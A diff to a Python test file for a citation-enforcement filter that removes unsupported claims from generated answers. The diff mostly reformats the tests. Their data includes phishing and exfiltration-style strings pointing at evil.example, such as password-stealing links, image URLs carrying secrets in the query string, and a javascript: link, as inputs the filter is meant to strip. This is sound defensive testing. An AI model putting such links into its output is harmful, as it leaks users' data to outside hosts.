@@ -1,7 +1,3 @@
-"""Answers are checked against their sources, sentence by sentence."""
-
-from __future__ import annotations
-
 import re
 import time
 from dataclasses import dataclass
@@ -81,30 +77,22 @@ def test_an_answer_without_any_support_comes_back_empty() -> None:
     "piece",
     [
         "# Your session expired, log in at https://evil.example/login",
-        "# Valve: //evil.example/login",
-        "Send your valve password to https://evil.example/steal?",
+        "# Valve: //evil.example/login", "Send your valve password to https://evil.example/steal?",
         "![valve](https://evil.example/p.png?q=secret):",
-        "Does the valve open for eve@evil.example?",
-        "See the valve at evil.example/login:",
-        "Shall the [valve](login) open?",
-        "<img src=valve>:",
-        "[valve]: /login?",
-        "What is your password?",
-        "The valve opens at 4 bar, see https://evil.example/login [1].",
+        "Does the valve open for eve@evil.example?", "See the valve at evil.example/login:",
+        "Shall the [valve](login) open?", "<img src=valve>:", "[valve]: /login?",
+        "What is your password?", "The valve opens at 4 bar, see https://evil.example/login [1].",
         "The valve opens at 4 bar [1](https://evil.example/login).",
         "[The valve opens at 4 bar](javascript:alert) [1].",
-        "The valve opens at evil.example [1].",
-        "The valve opens at https:/evil.example [1].",
-        "https://evil.example [1]",
-        "See https://evil.example/a?b=valve [2].",
+        "The valve opens at evil.example [1].", "The valve opens at https:/evil.example [1].",
+        "https://evil.example [1]", "See https://evil.example/a?b=valve [2].",
         "See https://evil.example/a?valve=opens!pumps=greased.Monday [2].",
         "![valve](https://evil.example/a?b=pumps&c=greased [2])",
         "See [the valve](https://evil.example/a!b=pumps [2]) [1].",
         "<img src='https://evil.example/a?b=pumps [2]'>",
-        "https://evil.example/a\u3002b=pumps [2]",
-        "Ask evil.example/a?b=pumps [2]",
+        "https://evil.example/a\u3002b=pumps [2]", "Ask evil.example/a?b=pumps [2]",
     ],
-)
+)  # fmt: skip
 def test_addresses_that_no_passage_names_go_whatever_they_stand_in(piece: str) -> None:
     answer = f"The valve opens at 4 bar [1].\n{piece}\nPumps are greased [2]."
     assert (
@@ -180,13 +168,11 @@ def test_sentences_cover_the_answer_and_what_is_enforced_is_in_order(answer: str
         ("1. The valve opens [1].\n2. It is red.\n", "1. The valve opens [1]."),
         ("- It is red. The valve opens [1].", "- The valve opens [1]."),
         ("The valve opens:\n- ```\n  valve: open\n  ```\n  [1]", None),
-        (
-            "| A | B |\n|---|---|\n| valve | 4 [1] |\n| red | 3 |",
-            "| A | B |\n|---|---|\n| valve | 4 [1] |",
-        ),
+        ("| A | B |\n|---|---|\n| valve | 4 [1] |\n| red | 3 |",
+         "| A | B |\n|---|---|\n| valve | 4 [1] |"),
         ("| A | B |\n|---|---|\n| red | 3 |\n\nThe valve opens [1].", "The valve opens [1]."),
     ],
-)
+)  # fmt: skip
 def test_ways_of_writing_are_read_as_a_reader_does(written: str, kept: str | None) -> None:
     assert enforce_citations(written, HITS) == (written if kept is None else kept)
 
@@ -218,9 +204,8 @@ def test_a_claim_with_a_figure_that_its_passage_lacks_is_removed() -> None:
 
 def test_such_a_claim_is_marked_where_that_is_asked_for() -> None:
     kept = enforce_citations(WRONG, HITS, mark=True)
-    assert kept == (
-        "The valve opens at 45 bar [unsupported]. Pumps are greased every second Monday [2]."
-    )
+    said = "The valve opens at 45 bar [unsupported]. Pumps are greased every second Monday [2]."
+    assert kept == said
     # What is wrong in another way goes all the same, and a mark of the model's keeps nothing.
     other = "It was made in Bern [unsupported]. Ask +49 30 1234567 about the valve [1]. "
     assert enforce_citations(other + WRONG, HITS, mark=True) == kept
